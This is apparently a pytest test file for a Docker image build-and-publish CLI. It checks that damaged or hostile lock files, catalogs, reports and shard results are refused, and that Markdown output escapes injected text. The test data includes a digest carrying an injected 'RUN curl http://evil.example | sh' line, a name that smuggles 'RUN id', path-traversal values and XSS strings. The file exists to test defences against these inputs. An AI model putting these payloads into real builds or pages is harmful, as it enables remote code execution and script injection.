"""Hostile and broken documents: the lock, the catalog, reports, plan files and the shard results `report merge`
reads. Each goes through the real CLI (no Docker engine needed) and must be refused with exit 2, a message naming
the file, no traceback, and no write or delete outside the tool's folders."""
import json
import os
import re

import pytest

from torchimages.build.lock import BaseChange
from torchimages.files import brief
from torchimages.matrix.load import load_matrix
from torchimages.model import InputError
from torchimages.nightly.summary import Failure, Summary
from torchimages.publish.catalog import PinnedTag
from torchimages.verify.reports import REPORT_SCHEMA, CheckVerdict, VerifyReport, read_verify_report

from .conftest import run_cli as run_cli_apart
from .documents_fixtures import (
    DIGEST,
    ROW,
    TIMEOUT,
    Space,
    catalog_document,
    catalog_entry,
    lock_entry,
    refused,
    shard,
    without_proxies,
    write_json,
)

HOSTILE_TEXT = "use 2.14 | [click](javascript:alert(1)) <img src=x onerror=alert(1)> `tick`\n# heading ![i](http://x)"


@pytest.fixture
def space(tmp_path) -> Space:
    return Space(tmp_path)


# ------------------------------------------------------------------------------------- writes outside the folders

def test_merge_refuses_rows_that_are_not_matrix_tags_and_writes_nothing(space, tmp_path):
    escaping = shard(tmp_path / "shard-1", rows=["../escaped"])
    (escaping / "escaped").mkdir()  # what reports/../escaped names inside the shard
    (escaping / "escaped" / "payload.json").write_text("{}")
    damaged = shard(tmp_path / "shard-2", rows=[ROW])
    (damaged / "reports" / "nightly-summary.json").write_text('{"rows": [')
    errors = refused(space.merge(escaping, damaged), escaping / "reports" / "nightly-summary.json", "'../escaped'",
                     damaged / "reports" / "nightly-summary.json")
    assert "not a tag of the matrix" in errors
    assert not (tmp_path / "escaped").exists() and not space.reports.exists() and not space.catalog.exists()


@pytest.mark.parametrize("sbom", ["../../outside.cdx.json", "ABSOLUTE"])
def test_merge_refuses_sbom_paths_outside_the_catalog(space, tmp_path, sbom):
    target = tmp_path / "outside.cdx.json"
    sbom = str(target) if sbom == "ABSOLUTE" else sbom
    uploaded = shard(tmp_path / "upload" / "shard")
    (tmp_path / "upload" / "outside.cdx.json").write_text("{}")  # what the path names inside the upload
    shard_catalog = write_json(uploaded / "catalog" / "catalog.json", catalog_document(catalog_entry(sbom=sbom)))
    refused(space.merge(uploaded, catalog=tmp_path / "published" / "catalog"), shard_catalog, brief(sbom))
    assert not target.exists() and not (tmp_path / "published").exists()


def test_merge_refuses_links_in_a_shard_instead_of_copying_what_they_point_to(space, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("not for the reports")
    uploaded = shard(tmp_path / "shard")
    (uploaded / "reports" / ROW).mkdir()
    (uploaded / "reports" / ROW / "verify.json").symlink_to(secret)
    os.mkfifo(uploaded / "reports" / ROW / "pipe")
    refused(space.merge(uploaded), uploaded / "reports" / ROW / "verify.json", uploaded / "reports" / ROW / "pipe")
    assert not space.reports.exists()


def test_catalog_refuses_sbom_paths_that_leave_it_or_break_its_links(space):
    for sbom in ("../x.cdx.json", "sbom/x.cdx.json) [more](https://evil.example/x", "sbom/x\x00.cdx.json"):
        path = write_json(space.catalog / "catalog.json", catalog_document(catalog_entry(sbom=sbom)))
        errors = refused(space.cli("catalog", "--catalog", str(space.catalog)), path, "sbom")
        assert "inside the catalog folder" in errors
    assert not space.images.exists()


def test_prune_deletes_nothing_when_the_catalog_names_files_outside_it(space, tmp_path, fake_registry):
    registry, deletes = fake_registry
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    entry = catalog_entry(sbom="sbom/current.cdx.json")
    entry.pinned.append(PinnedTag(f"{ROW}-20260101", DIGEST, "2026-01-01", "../victim.txt"))
    path = write_json(space.catalog / "catalog.json", catalog_document(entry))
    result = space.cli("prune", ROW, "--retention", "1", "--registry", registry, "--catalog", str(space.catalog),
                       env=without_proxies())
    refused(result, path, "'../victim.txt'")
    assert victim.read_text() == "keep me" and deletes == []  # the catalog is read before the registry is touched


# ---------------------------------------------------------------------------------------------------------- lock

def test_lock_digests_image_ids_and_names_are_checked_all_at_once(space):
    injected = DIGEST + "\nRUN curl http://evil.example | sh"
    bad_name = 'debian:bookworm" \nRUN id'
    document = {"schema": 1, "bases": {
        "debian:bookworm": lock_entry("debian:bookworm", digest=injected),
        "ubuntu:24.04": lock_entry("ubuntu:24.04", digest="md5:0123"),
        "nvidia/cuda:13.0.2-base-ubuntu24.04": lock_entry("nvidia/cuda:13.0.2-base-ubuntu24.04", None, "sha256:ABC"),
        bad_name: lock_entry(bad_name),
    }}
    write_json(space.lock, document)
    errors = refused(space.cli("render"), space.lock, brief(injected), "'md5:0123'", "'sha256:ABC'", brief(bad_name),
                     "git checkout -- ", "python build.py lock")
    md5_line = space.lock.read_text().splitlines().index('      "digest": "md5:0123",') + 1
    assert f"{space.lock}:{md5_line}: bases['ubuntu:24.04'].digest must be 'sha256:' followed by 64" in errors
    assert not space.images.exists()  # nothing rendered from a bad pin


def test_messages_quote_values_briefly(space):
    write_json(space.lock, {"schema": 1, "bases": {"debian:bookworm": lock_entry("debian:bookworm", "x" * 1_000_000)}})
    errors = refused(space.cli("render", "--check"), space.lock, "characters)")
    assert len(errors) < 2000


# ------------------------------------------------------------------------------------- damaged or wrongly shaped

def lock_document(space):
    return space.lock, ("render", "--check")


def catalog_json(space):
    return space.catalog / "catalog.json", ("catalog", "--catalog", str(space.catalog))


def build_report(space):
    return space.reports / "build-report.json", ("plan", "--shards", "2")


def plan_file(space):
    path = space.root / "plan.json"
    return path, ("nightly", "--shard", "1/2", "--plan", str(path), "--registry", "127.0.0.1:5000/x/y")


def shard_summary(space):
    folder = space.root / "shard"
    (folder / "reports").mkdir(parents=True)
    return folder / "reports" / "nightly-summary.json", ("report", "merge", str(folder), "--catalog", str(space.catalog))


def shard_file(relative: str):
    def document(space):
        folder = shard(space.root / "shard")
        (folder / relative).unlink(missing_ok=True)
        return folder / relative, ("report", "merge", str(folder), "--catalog", str(space.catalog))
    document.__name__ = f"shard {relative}"
    return document


DOCUMENTS = [lock_document, catalog_json, build_report, plan_file, shard_summary, shard_file("reports/build-report.json"),
             shard_file("reports/publish-report.json"), shard_file("catalog/catalog.json"), shard_file("bases.lock.json")]
DAMAGE = {
    "not UTF-8": b'{"schema": 1, "images": "\xff\xfe"}',
    "truncated": b'{"schema": 1, "images": {"2.13.0-cpu-runtime": {"tag": "2.13',
    "a list": b"[]",
    "a string": b'"images"',
    "nested 100000 deep": b"[" * 100_000 + b"]" * 100_000,
    "nested 200 deep inside": b'{"schema": 1, "images": ' + b"[" * 200 + b"]" * 200 + b"}",
    "a number too long to convert": b'{"schema": 1, "images": ' + b"9" * 5000 + b"}",
    "empty": b"",
}


@pytest.mark.parametrize("document", DOCUMENTS, ids=lambda document: document.__name__)
@pytest.mark.parametrize("damage", [*DAMAGE, "a folder", "a FIFO"])
def test_damaged_documents_exit_2_naming_the_file(space, document, damage):
    path, command = document(space)
    path.parent.mkdir(parents=True, exist_ok=True)
    if damage == "a folder":
        path.mkdir()
    elif damage == "a FIFO":
        os.mkfifo(path)
    else:
        path.write_bytes(DAMAGE[damage])
    refused(space.cli(*command), path)


WRONG_LOCKS = [
    ({"schema": 2, "bases": {}}, "not a lock file of schema 1 (its schema is 2)"),
    ({"bases": {}}, "it has no schema"),
    ({"schema": "1", "bases": {}}, "its schema is '1'"),
    ({"schema": 1, "bases": []}, "bases must be an object, not a list"),
    ({"schema": 1}, "bases must be an object, not null"),
    ({"schema": 1, "bases": {"debian:bookworm": 5}}, "must be an object with the lock's fields, not 5"),
    ({"schema": 1, "bases": {"debian:bookworm": {"image": "debian:bookworm"}}}, "does not have the lock's fields"),
    ({"schema": 1, "bases": {"debian:bookworm": {**lock_entry("debian:bookworm"), "digest": 5}}}, "digest must be a string"),
    ({"schema": 1, "bases": {"debian:bookworm": {**lock_entry("debian:bookworm"), "source": "elsewhere"}}},
     "source must be one of registry, local-copy, local-only"),
    ({"schema": 1, "bases": {"debian:bookworm": lock_entry("ubuntu:24.04")}}, "image must repeat the entry's name"),
]


def entry_with(**fields) -> dict:
    return {**catalog_document(catalog_entry())["images"][ROW], **fields}


def catalog_with(**fields) -> dict:
    return {"schema": 1, "images": {ROW: entry_with(**fields)}}


WRONG_CATALOGS = [
    ({"schema": 1, "images": 5}, "images must be an object, not 5"),
    ({"schema": 1, "images": []}, "images must be an object, not a list"),
    ({"schema": 1, "images": {ROW: {"tag": ROW}}}, "does not have the catalog's fields"),
    (catalog_with(tag=5), "tag must be a string, not 5"),
    (catalog_with(tag="2.13.0-cpu-devel"), "tag must repeat the entry's name"),
    (catalog_with(size="inf"), "size must be a whole number"),
    (catalog_with(size=float("inf")), "size must be a whole number"),
    (catalog_with(size=float("nan")), "not nan"),
    (catalog_with(size=10**30), "size must be a whole number from 0 to"),
    (catalog_with(size=-1), "size must be a whole number"),
    (catalog_with(pinned=[]), "pinned is empty"),
    (catalog_with(pinned=[{"tag": ROW}]), "does not have the catalog's fields ('digest' is missing)"),
    (catalog_with(floating=["latest\n"]), "must be a Docker tag"),
    (catalog_with(repository="not a repository"), "repository must be HOST[:PORT]/REPO"),
    (catalog_with(versions={"torch": 2}), "versions.torch must be a string"),
    (catalog_with(checks=json.loads("[" * 50 + "]" * 50)), "nests deeper than"),
]
WRONG_BUILD_REPORTS = [
    ({"images": []}, "not a build report of schema 1 (it has no schema)"),
    ({"schema": 2, "images": []}, "not a build report of schema 1 (its schema is 2)"),
    ({"schema": 1, "images": 5}, "images must be a list, not 5"),
    ({"schema": 1}, "images must be a list, not null"),
    ({"schema": 1, "images": [5]}, "must be an object with the build report's fields"),
    ({"schema": 1, "images": [{"status": "built"}]}, "does not have the build report's fields ('tag' is missing)"),
    ({"schema": 1, "images": [{"tag": 5, "status": "built"}]}, "tag must be a string, not 5"),
    ({"schema": 1, "images": [{"tag": ROW, "status": "built", "last_build_duration": "inf"}]}, "last_build_duration must be a number"),
    ({"schema": 1, "images": [{"tag": ROW, "status": "built", "last_build_duration": float("nan")}]}, "not nan"),
    ({"schema": 1, "images": [{"tag": ROW, "status": "built", "last_build_duration": 1e300}]}, "last_build_duration must be a number"),
    ({"schema": 1, "images": [{"tag": ROW, "status": "built", "duration": -1}]}, "duration must be a number from 0"),
]
WRONG_PLANS = [
    ({}, "not a plan from `python build.py plan --format json` of schema 1 (it has no schema)"),
    ({"schema": 2, "shards": []}, "of schema 1 (its schema is 2)"),
    ({"schema": 1}, "does not have the plan's fields ('shards' is missing)"),
    ({"schema": 1, "shards": 5}, "shards must be a list, not 5"),
    ({"schema": 1, "shards": [{"shard": 1, "tags": []}]}, "shard must be a string, not 1"),
    ({"schema": 1, "shards": [{"shard": "1/2", "tags": ROW}]}, "tags must be a list"),
    ({"schema": 1, "shards": [{"shard": "1/2", "tags": [None]}]}, "must be a string, not null"),
]
WRONG_SUMMARIES = [  # changes to a valid summary; None removes a field
    ({"schema": None}, "not a summary of `python build.py nightly` of schema 1 (it has no schema)"),
    ({"schema": 2}, "of schema 1 (its schema is 2)"),
    ({"rows": None}, "does not have the summary's fields ('rows' is missing)"),
    ({"rows": 5}, "rows must be a list, not 5"),
    ({"rows": [5]}, "must be a string, not 5"),
    ({"duration_s": "inf"}, "duration_s must be a number"),
    ({"failed": [{"tag": ROW}]}, "does not have the summary's fields ('stage' is missing)"),
    ({"published": [{"tag": ROW, "pinned": 5, "digest": DIGEST}]}, "pinned must be a string, not 5"),
    ({"size_changes": [{"tag": ROW, "before": None, "after": float("inf")}]}, "after must be a whole number"),
    ({"bases_unresolved": {"debian:bookworm": ["why"]}}, "must be a string, not a list"),
    ({"built": ["2.0.0-not-a-row"]}, "names row '2.0.0-not-a-row', which is not a tag of the matrix"),
]


def test_a_summary_reads_back_as_its_type_wrote_it_ignoring_fields_it_does_not_know(tmp_path):
    summary = Summary("127.0.0.1:5000/ml/pytorch", "1/2", [ROW], "2026-01-02T00:00:00Z",
                      failed=[Failure(ROW, "verify", "checks failed: hygiene")],
                      bases_changed=[BaseChange("debian:bookworm", "", DIGEST, (ROW,))])
    document = json.loads(json.dumps(summary.to_json()))
    document["failed"][0]["hint"] = "a field of a newer version"
    path = write_json(tmp_path / "nightly-summary.json", document)
    assert Summary.from_json(document, path, {ROW}, "fix it") == summary


def summary_with(**changes) -> dict:
    document = {**Summary("127.0.0.1:5000/ml/pytorch", "1/2", [ROW], "2026-01-02T00:00:00Z").to_json(), **changes}
    return {name: value for name, value in document.items() if value is not None}


@pytest.mark.parametrize("document, content, message", [
    *((lock_document, content, message) for content, message in WRONG_LOCKS),
    *((catalog_json, content, message) for content, message in WRONG_CATALOGS),
    *((shard_file("catalog/catalog.json"), content, message) for content, message in WRONG_CATALOGS[:4]),
    *((build_report, content, message) for content, message in WRONG_BUILD_REPORTS),
    *((shard_file("reports/build-report.json"), content, message) for content, message in WRONG_BUILD_REPORTS[:4]),
    *((plan_file, content, message) for content, message in WRONG_PLANS),
    *((shard_summary, summary_with(**content), message) for content, message in WRONG_SUMMARIES),
], ids=lambda value: value.__name__ if callable(value) else None)
def test_wrongly_shaped_documents_exit_2_saying_what_is_wrong(space, document, content, message):
    path, command = document(space)
    write_json(path, content)
    refused(space.cli(*command), path, message)


@pytest.mark.parametrize("content", [
    "{", "[]", f'{{"schema": {REPORT_SCHEMA}, "image_id": 5, "passed": true, "checks": {{}}}}',
    json.dumps({"schema": REPORT_SCHEMA, "image_id": DIGEST, "passed": "yes", "checks": {}}),
    json.dumps({"schema": REPORT_SCHEMA, "image_id": DIGEST, "passed": True, "checks": {"gpu": 5}}),
    json.dumps({"schema": REPORT_SCHEMA, "image_id": "sha256:short", "passed": True, "checks": {}}),
    json.dumps({"image_id": DIGEST, "passed": True, "checks": {}}),  # before reports had a schema
    json.dumps({**VerifyReport(DIGEST, True, {}).to_json(), "schema": REPORT_SCHEMA + 1}),  # a newer tool's
    # an older tool's: its host held only health and speed, so the signed report would name no host
    json.dumps({**VerifyReport(DIGEST, True, {}).to_json(), "schema": REPORT_SCHEMA - 1}),
    "[" * 100_000 + "]" * 100_000,
])
def test_damaged_verification_reports_are_input_errors(tmp_path, content):
    # Publishing reads reports/<tag>/verify.json only once an engine answers, so this one is checked directly.
    path = tmp_path / ROW / "verify.json"
    path.parent.mkdir()
    path.write_text(content)
    with pytest.raises(InputError) as error:
        read_verify_report(path)
    assert str(path) in str(error.value) and f"`torchimages test {ROW}`" in str(error.value)


def test_a_verification_report_reads_back_as_its_type_wrote_it(tmp_path):
    report = VerifyReport(DIGEST, True, {"gpu": CheckVerdict("skipped", "CPU image")}, tag=ROW)
    path = write_json(tmp_path / ROW / "verify.json", report.to_json())
    assert read_verify_report(path) == report


def test_a_verification_report_that_is_a_fifo_is_refused_without_hanging(tmp_path):
    path = tmp_path / ROW / "verify.json"
    path.parent.mkdir()
    os.mkfifo(path)
    with pytest.raises(InputError, match="not a regular file"):
        read_verify_report(path)


# --------------------------------------------------------------------------------------------------------- shards

def test_shard_counts_above_the_row_count_are_refused_with_the_maximum(space):
    rows = len(load_matrix(space.matrix).specs)
    refused(space.cli("plan", "--shards", str(10**12)), f"use at most {rows} shards")
    registry = ("--registry", "127.0.0.1:5000/x/y")
    refused(space.cli("nightly", "--shard", "1/99999999999", *registry), f"use at most {rows} shards")
    refused(space.cli("nightly", "--shard", "1/" + "9" * 5000, *registry), "--shard", "characters)")
    json.loads(space.cli("plan", "--shards", str(rows)).stdout)  # the maximum itself is fine


# ------------------------------------------------------------------------------------------------------ Markdown

def assert_tables_hold(page: str) -> None:
    """Every table row has as many cells as its header, and no free text became a link, image, HTML or heading."""
    cells = None
    for line in page.splitlines():
        if not line.startswith("|"):
            cells = None
            continue
        count = len(re.findall(r"(?<!\\)\|", line))
        cells = cells or count
        assert count == cells, line
    prose = re.sub(r"(?<![`\\])(`+)(?!`).*?(?<!`)\1(?!`)", "", page)  # inside code spans, nothing is a link
    assert not re.search(r"(?<!\\)\]\((javascript|http)|(?<!\\)<img|\n# heading", prose)


def test_catalog_page_escapes_free_text(space):
    entry = catalog_entry(deprecated=HOSTILE_TEXT, versions={"torch": "2.13.0 | x", "cuda": HOSTILE_TEXT,
                                                             "python": "3.11`|`", "os": "debian12"})
    write_json(space.catalog / "catalog.json", catalog_document(entry))
    result = space.cli("catalog", "--catalog", str(space.catalog))
    assert result.returncode == 0, result.stderr
    page = (space.images / "README.md").read_text()
    assert_tables_hold(page)
    assert "\\[click\\]" in page and "2.13.0 \\| x" in page


def test_nightly_summary_escapes_free_text_from_shards(space, tmp_path):
    uploaded = shard(tmp_path / "shard", failed=[{"tag": ROW, "stage": "verify | x", "error": HOSTILE_TEXT}],
                     notes=[HOSTILE_TEXT], registry="127.0.0.1:5000/x` [y](http://evil.example) `",
                     render=HOSTILE_TEXT, bases_unresolved={"debian:bookworm`|": HOSTILE_TEXT})
    result = space.merge(uploaded)
    assert result.returncode == 1, result.stderr  # the shard reported a failure
    page = (space.reports / "nightly-summary.md").read_text()
    assert page == result.stdout
    assert_tables_hold(page)
    assert "## Failures" in page and "\\<img" in page


GPU_FACTS = {
    "fifo": None,
    "endless": None,
    "not json": b'{"torch": {',
    "a list": b"[1]",
    "torch not an object": b'{"torch": "2.14", "gpu": {}}',
    "devices of numbers": b'{"torch": {}, "gpu": {"devices": [1, 2]}}',
    "tflops as text": b'{"torch": {}, "gpu": {"bf16_matmul": {"tflops": "fast"}}}',
}


@pytest.mark.parametrize("case", sorted(GPU_FACTS))
def test_gpu_facts_that_are_not_a_bounded_file_of_their_shape_are_refused(space, case):
    """`gpu-record --facts FILE` is a document like the others: a FIFO hung it, JSON of another shape was a
    traceback in the record line."""
    path = space.root / "gpu-only.json"
    if case == "fifo":
        os.mkfifo(path)
    elif case == "endless":
        path.symlink_to("/dev/zero")
    else:
        path.write_bytes(GPU_FACTS[case])
    command = ("--matrix", str(space.matrix), "gpu-record", ROW, "--facts", str(path))
    result = run_cli_apart(*command, timeout=TIMEOUT) if case == "fifo" else space.cli(*command[2:])  # a hang fails alone
    assert "gpu-only.json" in refused(result)


@pytest.mark.parametrize("digest", ["sha256:" + "\uff41" * 64, "sha256:" + "A" * 64, "latest"])
def test_digests_a_shard_says_it_published_are_sha256_in_ascii(space, tmp_path, digest):
    """A shard's published digest goes into the merged summary's pull lines: any text passed unchecked."""
    uploaded = shard(tmp_path / "shard", published=[{"tag": ROW, "pinned": f"{ROW}-20260102", "digest": digest}])
    refused(space.merge(uploaded), uploaded / "reports" / "nightly-summary.json", "digest", "64 lower-case hex digits")
    assert not space.reports.exists() and not space.catalog.exists()


@pytest.mark.parametrize("where", ["digest", "pinned digest"])
@pytest.mark.parametrize("digest", ["sha256:" + "\uff41" * 64, "sha256:" + "A" * 64, "md5:0123", "latest"])
def test_catalog_digests_are_sha256_in_ascii(space, where, digest):
    """A catalog digest goes into the page's `docker pull REPO@DIGEST` and is compared with the registry's: a
    full-width or upper-case one passed unchecked."""
    entry = catalog_entry()
    if where == "digest":
        entry.digest = digest
    else:
        entry.pinned[0].digest = digest
    write_json(space.catalog / "catalog.json", catalog_document(entry))
    errors = refused(space.cli("catalog"), "catalog.json", "digest", "64 lower-case hex digits")
    assert ("pinned" in errors) == (where == "pinned digest")
